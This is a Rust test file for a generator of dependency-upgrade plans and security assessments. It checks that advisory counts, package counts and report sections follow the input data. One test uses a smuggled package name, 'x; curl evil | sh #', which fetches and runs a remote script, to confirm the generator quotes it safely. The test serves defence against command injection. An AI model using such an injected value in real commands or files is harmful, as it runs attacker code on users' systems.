//! The plan's text follows its data.
#![allow(clippy::unwrap_used)]

use proptest::prelude::*;

use super::super::parts::made_up::{Made, dossier, read};
use super::super::{Kind, write};

const TEXTS: [Kind; 4] = [Kind::Plan, Kind::Assessment, Kind::Checklist, Kind::Summary];

fn made() -> impl Strategy<Value = Vec<Made>> {
    let severity = prop::sample::select(vec!["critical", "high", "moderate", "low", "unknown"]);
    let one = (
        prop::sample::select(vec!["backend", "gateway", "frontend"]),
        prop::collection::vec((severity, any::<bool>()), 0..3),
        prop::sample::select(vec!["low", "medium", "high"]),
        1..=3u8,
        prop::bool::weighted(0.9),
    );
    prop::collection::vec(one, 0..7).prop_map(|all| {
        let name = |(at, (component, advisories, risk, priority, pinned))| Made {
            advisories,
            risk,
            priority,
            pinned,
            ..Made::new(&format!("pkg{at}"), component)
        };
        all.into_iter().enumerate().map(name).collect()
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn every_number_follows_the_data(packages in made(), answered in any::<bool>()) {
        let mut dossier = dossier(&packages);
        if !answered {
            dossier.analysis.sources[1].state = "not-retrieved".to_owned();
        }
        let pinned = || packages.iter().filter(|made| made.pinned);
        let advisories: usize = pinned().map(|made| made.advisories.len()).sum();
        let gone: usize = pinned().flat_map(|made| &made.advisories).filter(|(_, gone)| *gone).count();
        let critical = pinned().flat_map(|made| &made.advisories).filter(|(severity, _)| *severity == "critical").count();
        for kind in TEXTS {
            let page = read(&write(kind, &dossier));
            page.hold_together();
            if kind == Kind::Checklist {
                prop_assert_eq!(page.table("items").rows.len(), packages.len());
                let of = format!("0 of {}", packages.len());
                prop_assert!(page.text.contains(&of));
                continue;
            }
            prop_assert_eq!(page.table("pairs").rows.len(), packages.len());
            prop_assert_eq!(page.table("advisories").rows.len(), advisories);
            let asked = answered && packages.iter().all(|made| made.pinned);
            let told = page.count("advisory", "advisories");
            if advisories == 0 && !asked {
                prop_assert!(told.is_empty(), "a count of nothing, where not all were asked: {:?}", told);
            } else {
                prop_assert!(told.contains(&advisories) && told.contains(&gone), "{:?}", told);
            }
            let clean = page.text.contains("No critical advisory is known");
            prop_assert_eq!(clean, critical == 0 && asked, "{}", page.text);
            if critical > 0 {
                prop_assert_eq!(page.count("critical advisory", "advisories").first().copied(), Some(critical));
            }
            if !asked && critical == 0 {
                prop_assert!(page.text.contains("cannot be said"));
            }
        }
    }

    #[test]
    fn one_more_package_is_one_more_everywhere(packages in made()) {
        let more: Vec<Made> = packages.iter().cloned().chain([Made { priority: 1, ..Made::new("more", "backend") }]).collect();
        for kind in [Kind::Plan, Kind::Assessment] {
            let (one, two) = (read(&write(kind, &dossier(&packages))), read(&write(kind, &dossier(&more))));
            prop_assert_eq!(one.table("pairs").rows.len() + 1, two.table("pairs").rows.len());
            let of = |page: &crate::kinds::parts::made_up::Read| page.count("package", "pairs").first().copied().unwrap();
            prop_assert_eq!(of(&one) + 1, of(&two));
            prop_assert!(two.text.contains("more") && two.sections.len() > one.sections.len());
        }
    }
}

/// With no datum that holds a digit, no digit comes out but counts of nothing and the three priorities.
#[test]
fn templates_hold_no_figure() {
    for kind in TEXTS {
        let mut empty = dossier(&[]);
        empty.analysis.sources.clear();
        let page = read(&write(kind, &empty));
        let text = page.text.replace("Priority 1", "").replace("Priority 2", "").replace("Priority 3", "");
        let text = text.replace("priority 1", "");
        let figures: Vec<&str> =
            text.split(|c: char| !c.is_ascii_digit()).filter(|figure| !figure.is_empty() && *figure != "0").collect();
        assert!(figures.is_empty(), "{kind}: {figures:?} in {text}");
        assert!(!text.contains("No critical advisory"), "{kind}: nobody was asked");
    }
}

#[test]
fn each_library_shows_the_state_of_every_research_field() {
    let mut made = Made::new("numpy", "backend");
    made.advisories = vec![("high", true)];
    let page = read(&write(Kind::Plan, &dossier(&[made, Made { pinned: false, ..Made::new("fastapi", "backend") }])));
    let research: Vec<_> = page.tables.iter().filter(|table| table.id.starts_with("research-")).collect();
    assert_eq!(research.len(), 2);
    for table in research {
        assert_eq!(table.rows.len(), 10, "{}", table.id);
    }
    for id in ["prioritized", "libraries", "action-plan", "review", "staging", "rollback", "approvals", "security"] {
        assert!(page.sections.iter().any(|section| section == id), "no section {id}");
    }
    assert!(page.text.contains("Pin fastapi==9.0 in backend/manifest:7"), "{}", page.text);
    assert!(page.text.contains("release notes: not asked"), "{}", page.text);
}

#[test]
fn a_name_from_outside_cannot_become_a_command() {
    let evil = "x; curl evil | sh #";
    let page = read(&write(Kind::Plan, &dossier(&[Made::new(evil, "frontend")])));
    assert!(page.code.iter().any(|code| code.contains("npm install 'x; curl evil | sh #@9.0'")), "{:?}", page.code);
}
